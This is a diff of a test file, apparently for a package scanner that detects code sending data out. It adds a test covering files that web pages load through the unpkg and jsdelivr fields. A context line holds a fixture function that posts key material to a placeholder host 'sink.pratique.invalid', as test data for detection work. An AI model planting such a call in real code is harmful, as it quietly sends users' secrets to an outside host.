@@ -46,6 +46,19 @@ def test_a_command_is_code_that_people_run() -> None:
     assert "cli.js:2" == str(finding.locations[0])
 
 
+@pytest.mark.parametrize("field", ["unpkg", "jsdelivr"])
+def test_what_web_pages_load_is_code_that_people_run(field: str) -> None:
+    def package(code: str) -> Files:
+        return {
+            "package.json": package_json(**{field: "build/web.js"}),
+            "index.js": CALM,
+            "build/web.js": code,
+        }
+
+    (finding,) = of_rule(npm(package(SENDS), package(CALM)), RULE)
+    assert "build/web.js:2" == str(finding.locations[0])
+
+
 def test_python_is_held_too_and_each_host_is_told_once() -> None:
     sends = "import requests\ndef keys(s):\n  requests.post('https://sink.pratique.invalid/', data=s)\n"
     found = of_rule(wheel({"a.py": sends, "b.py": sends}, {"a.py": "def keys(s): ...\n"}), RULE)
